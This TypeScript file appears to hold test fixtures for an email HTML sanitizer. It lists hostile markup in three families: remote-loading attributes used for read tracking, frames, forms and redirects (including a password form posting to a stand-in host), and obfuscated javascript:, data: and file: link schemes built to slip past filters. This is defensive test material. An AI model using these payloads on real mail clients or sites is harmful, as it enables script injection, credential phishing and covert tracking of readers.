/** Elements and attributes that load, link, send and embed. */
import type { Family } from './hostile-mail.ts';

const GIF = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';

const LOADS: Family = {
  family: 'attributes that load',
  danger: 'tells the sender that the message was read',
  tricks: [
    ['a picture', '<img src="https://HOST/a.png">'],
    ['a picture without scheme', '<img src="//HOST/a.png">'],
    [
      'a picture with backslashes',
      '<img src="\\\\HOST\\a.png"><img src="https:\\\\HOST/b.png"><img src="/\\HOST/c.png">',
    ],
    ['a picture with one slash', '<img src="https:/HOST/a.png"><img src="https:HOST/b.png">'],
    ['a picture with tabs and line breaks', '<img src="ht\ntps://HO\tST/a.png"><img src=" \x01https://HOST/b.png">'],
    ['a picture with credentials', '<img src="https://user:word@HOST/a.png">'],
    ['a picture by ftp', '<img src="ftp://HOST/a.png"><img src="ws://HOST/b">'],
    ['a picture by file', '<img src="file://HOST/share/a.png"><img src="\\\\HOST\\share\\b.png">'],
    ['a set of sources', `<img src="${GIF}" srcset="https://HOST/a.png 1x, https://HOST/b.png 2x" sizes="99px">`],
    ['a set of sources alone', '<img srcset="https://HOST/a.png">'],
    [
      'a picture element',
      `<picture><source srcset="https://HOST/a.webp" type="image/webp"><img src="${GIF}"></picture>`,
    ],
    [
      'a low source',
      `<img src="${GIF}" lowsrc="https://HOST/a.png" dynsrc="https://HOST/b.avi" longdesc="https://HOST/c">`,
    ],
    ['a lazy picture', '<img loading=eager fetchpriority=high decoding=sync src="https://HOST/a.png">'],
    [
      'with an attribution',
      '<img attributionsrc="https://HOST/a" src="https://HOST/b.png"><a attributionsrc="https://HOST/c" href="https://HOST/d">a</a>',
    ],
    [
      'with credentials across origins',
      '<img crossorigin=use-credentials referrerpolicy=unsafe-url src="https://HOST/a.png">',
    ],
    ['a background of the body', '<body background="https://HOST/a.png">a</body>'],
    [
      'a background of a table',
      '<table background="https://HOST/a.png"><tr background="https://HOST/b.png"><td background="https://HOST/c.png">a<th background=//HOST/d.png>b</table>',
    ],
    [
      'a background of parts of a table',
      '<table><thead background="https://HOST/a.png"><col background="https://HOST/b.png"><tbody background="https://HOST/c.png"><tr><td>a</table>',
    ],
    [
      'a background of a division',
      '<div background="https://HOST/a.png">a</div><p background="https://HOST/b.png">b</p>',
    ],
    [
      'a film with a poster',
      '<video poster="https://HOST/a.png" src="https://HOST/b.mp4" autoplay preload=auto></video>',
    ],
    [
      'a film with sources and tracks',
      '<video autoplay><source src="https://HOST/a.mp4"><track default src="https://HOST/b.vtt"></video>',
    ],
    ['a sound', '<audio autoplay src="https://HOST/a.mp3"></audio><bgsound src="https://HOST/b.wav">'],
    ['an embedded file', '<embed src="https://HOST/a.swf">'],
    [
      'an object',
      '<object data="https://HOST/a.swf" classid="https://HOST/b" codebase="https://HOST/c"><param name=movie value="https://HOST/d"></object>',
    ],
    ['an applet', '<applet code="A" codebase="https://HOST/" archive="https://HOST/a.jar"></applet>'],
    ['a field that is a picture', '<input type=image src="https://HOST/a.png">'],
    ['a style sheet', '<link rel=stylesheet href="https://HOST/a.css">'],
    ['an alternate style sheet', '<link rel="alternate stylesheet" title=x href="https://HOST/a.css">'],
    [
      'an icon and a manifest',
      '<link rel=icon href="https://HOST/a.ico"><link rel=manifest href="https://HOST/b.json">',
    ],
    ['a preload', '<link rel=preload as=image href="https://HOST/a.png" imagesrcset="https://HOST/b.png">'],
    [
      'a prefetch',
      '<link rel=prefetch href="https://HOST/a"><link rel=prerender href="https://HOST/b"><link rel=modulepreload href="https://HOST/c.js">',
    ],
    ['a look-up of a name', '<link rel=dns-prefetch href="//HOST"><link rel=preconnect href="https://HOST">'],
    ['a look-up of a link’s name', '<a href="https://HOST/a">a</a>'],
    [
      'a look-up that is asked for',
      '<meta http-equiv="x-dns-prefetch-control" content="on"><a href="https://HOST/a">a</a>',
    ],
    [
      'a header in a meta',
      '<meta http-equiv="Link" content="<https://HOST/a.css>;rel=stylesheet"><meta http-equiv="Set-Cookie" content="a=b">',
    ],
    [
      'a policy that reports',
      '<meta http-equiv="Content-Security-Policy" content="img-src none;report-uri https://HOST/a"><img src="https://HOST/b.png">',
    ],
    [
      'a citation',
      '<blockquote cite="https://HOST/a">a</blockquote><q cite="https://HOST/b">b</q><del cite="https://HOST/c">c</del>',
    ],
    [
      'a profile and a usemap',
      '<head profile="https://HOST/a"></head><img usemap="https://HOST/b" src="https://HOST/c.png">',
    ],
    [
      'a base that turns our addresses into theirs',
      '<base href="https://HOST/"><img src="/a.png"><img src="b.png"><a href="c">c</a>',
    ],
    ['our proxy without a signature', '<img src="/api/image?u=https%3A%2F%2FHOST%2Fa.png">'],
    ['our own API', '<img src="/api/auth/sign-out"><img src="/api/trpc/mail.count"><img src="//localhost/api/config">'],
    ['a part that is not there', '<img src="cid:none@HOST"><img src="cid:https://HOST/a.png"><img src="mid:a@HOST/b">'],
    [
      'a fenced frame and a portal',
      '<fencedframe src="https://HOST/a"></fencedframe><portal src="https://HOST/b"></portal>',
    ],
    ['XML islands', '<xml src="https://HOST/a.xml"></xml><?xml-stylesheet href="https://HOST/b.css"?>'],
    [
      'VML',
      '<v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:fill type=frame src="https://HOST/a.png"/><v:imagedata src="https://HOST/b.png"/></v:rect>',
    ],
    [
      'an Office conditional',
      '<!--[if mso]><img src="https://HOST/a.png"><![endif]--><!--[if !mso]><!--><img src="https://HOST/b.png"><!--<![endif]-->',
    ],
    [
      'AMP',
      '<html amp4email><amp-img src="https://HOST/a.png" width=9 height=9></amp-img><amp-list src="https://HOST/b"></amp-list></html>',
    ],
    ['dangling markup', '<img src="https://HOST/a?x='],
    ['dangling markup with a text area', '<form action="https://HOST/a"><input type=submit><textarea name=x>'],
  ],
};

const EMBEDDING: Family = {
  family: 'frames, forms and redirects',
  danger: 'brings in another page, sends what is typed, or takes the reader away',
  tricks: [
    ['a frame', '<iframe src="https://HOST/a"></iframe>'],
    ['a frame with its document', '<iframe srcdoc="<script>RUN()</script><img src=https://HOST/a.png>"></iframe>'],
    ['a frame with a script address', '<iframe src="javascript:RUN()"></iframe>'],
    ['a frame with a data document', '<iframe src="data:text/html,<script>RUN()</script>"></iframe>'],
    [
      'a frame with all rights',
      '<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="<script>RUN();top.location=\'https://HOST/a\'</script>"></iframe>',
    ],
    ['a frame of ours', '<iframe src="/mail/inbox"></iframe><iframe src="/api/config"></iframe>'],
    ['a frame set', '<frameset><frame src="javascript:RUN()"><frame src="https://HOST/a"></frameset>'],
    ['an object that is a page', '<object data="data:text/html,<script>RUN()</script>" type="text/html"></object>'],
    ['an embedded script address', '<embed src="javascript:RUN()"><embed code="https://HOST/a">'],
    ['a refresh', '<meta http-equiv=refresh content="0;url=https://HOST/a">'],
    ['a refresh to a script', '<meta http-equiv="refresh" content="0; url=javascript:RUN()">'],
    ['a refresh to data', '<meta http-equiv="refresh" content="0;url=data:text/html,<script>RUN()</script>">'],
    ['a refresh without quotes', '<META HTTP-EQUIV=Refresh CONTENT=0;URL=//HOST/a>'],
    ['a base for all links', '<base target=_top href="https://HOST/"><a href=a>a</a>'],
    ['a base for script links', '<base href="javascript:/a/-RUN()///////"><a href=../lol>a</a>'],
    [
      'a form',
      '<form action="https://HOST/a"><input name=password type=password><button autofocus>Sign in</button></form>',
    ],
    ['a form with a script', '<form action="javascript:RUN()"><button>a</button></form>'],
    [
      'a form that asks the app',
      '<form action="/api/auth/sign-out" method=post enctype="text/plain"><button>a</button></form>',
    ],
    [
      'a button with an action',
      '<form id=f></form><button form=f formaction="javascript:RUN()">a</button><input type=submit form=f formaction="https://HOST/a">',
    ],
    [
      'a form of the old kind',
      '<isindex action="javascript:RUN()" type=image src="https://HOST/a.png"><keygen name=k challenge=c autofocus>',
    ],
    ['a form around the rest', '<form action="https://HOST/a"><table><tr><td><input autofocus></table>'],
    ['a chosen file', '<input type=file autofocus><input type=color value="#ff0000"><input type=hidden value=a>'],
    [
      'a target that is the app',
      '<a href="https://HOST/a" target=_top>a</a><a href="https://HOST/b" target=_parent>b</a><a href="https://HOST/c" target=postroom>c</a>',
    ],
    ['a link that keeps its opener', '<a href="https://HOST/a" rel="opener" target=_blank>a</a>'],
    ['a link that pings', '<a href="https://example.org/" ping="https://HOST/a">a</a>'],
    ['a link that downloads', '<a href="data:text/html,<script>RUN()</script>" download="invoice.html">a</a>'],
    ['a map', '<img usemap=#m src="https://HOST/a.png"><map name=m><area shape=default href="javascript:RUN()"></map>'],
    ['an access key', '<a accesskey=e href="javascript:RUN()">a</a><button accesskey=j onclick=RUN()>b</button>'],
    ['a window in a link’s name', '<a target="<script>RUN()</script>" href="https://HOST/a">a</a>'],
    ['a portal of a slot', '<template shadowrootmode=open><a href="javascript:RUN()">a</a></template>'],
    [
      'a payment and a credential',
      '<iframe allow="payment;publickey-credentials-get;camera" src="https://HOST/a"></iframe>',
    ],
    [
      'a web bundle and a worker',
      '<script type=webbundle>{"source":"https://HOST/a.wbn","resources":["https://HOST/b"]}</script><link rel=serviceworker href="https://HOST/c.js">',
    ],
  ],
};

const SCHEMES: readonly (readonly [string, string])[] = [
  ['script', 'javascript:RUN()'],
  ['script, mixed case', 'JaVaScRiPt:RUN()'],
  ['script with a tab', 'java\tscript:RUN()'],
  ['script with line breaks', 'java\nscr\r\nipt:RUN()'],
  ['script with entities', '&#106;avascript&colon;RUN&lpar;&rpar;'],
  ['script with entities without semicolons', '&#x6A&#x61&#x76&#x61&#x73cript:RUN()'],
  ['script with named white space', 'java&Tab;scr&NewLine;ipt:RUN()'],
  ['script behind control characters', '\x01\x02\x1fjavascript:RUN()'],
  ['script behind spaces of all kinds', '\u00a0\u2003\u3000 javascript:RUN()'],
  ['script with a soft hyphen', 'java\u00adscript:RUN()'],
  ['script with a direction mark', '\u202ejavascript:RUN()'],
  ['script with a NUL', 'java\0script:RUN()'],
  ['script behind a comment', 'javascript://HOST/%0aRUN()'],
  ['script in script', 'javascript:javascript:RUN()'],
  ['script behind a view', 'view-source:javascript:RUN()'],
  ['script behind feed', 'feed:javascript:RUN()'],
  ['script behind jar', 'jar:javascript:RUN()!/a'],
  ['VBScript', 'vbscript:RUN()'],
  ['live script', 'livescript:RUN()'],
  ['a data document', 'data:text/html,<script>RUN()</script>'],
  ['a data document in base64', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ['a data document without type', 'data:,<script>RUN()</script>'],
  ['a data drawing', 'data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=RUN()>'],
  ['data in XML', 'data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">RUN()</script>'],
  ['a blob', 'blob:https://HOST/1'],
  ['a file', 'file:///etc/passwd'],
  ['a file system', 'filesystem:https://HOST/temporary/a.html'],
  ['a page of the browser', 'about:srcdoc'],
  ['a page of an extension', 'chrome-extension://aaaa/a.html'],
  ['a program', 'ms-word:ofe|u|https://HOST/a.docx'],
  ['another program', 'search-ms:query=a&crumb=location:\\\\HOST\\share'],
  ['a share', '\\\\HOST\\share\\a.lnk'],
  ['without scheme', '//HOST/a'],
  ['a place in the app', '/settings/accounts'],
  ['an anchor', '#message'],
  ['nothing', ''],
  ['a name before an address', 'https://bank.example@HOST/a'],
  ['a name with a slash before an address', 'https://bank.example%2F@HOST/a'],
  ['a backslash before an address', 'https://HOST\\@bank.example/'],
  ['a look-alike host', 'https://xn--pypal-4ve.HOST/'],
  ['a number for a host', 'https://2130706433/'],
  ['too long', `https://HOST/${'a'.repeat(9000)}`],
  ['a mail with a header', 'mailto:a@example.org?bcc=b@HOST&subject=%0d%0aX:%20y&attach=/etc/passwd'],
  ['a call', 'tel:*%2306%23'],
];

const LINKS: Family = {
  family: 'links',
  danger: 'runs when it is clicked, or goes where it does not say',
  tricks: SCHEMES.map(([name, address]) => [name, `<a href="${address.replaceAll('"', '&quot;')}">Click</a>`] as const),
};

export const elements: readonly Family[] = [LOADS, EMBEDDING, LINKS];
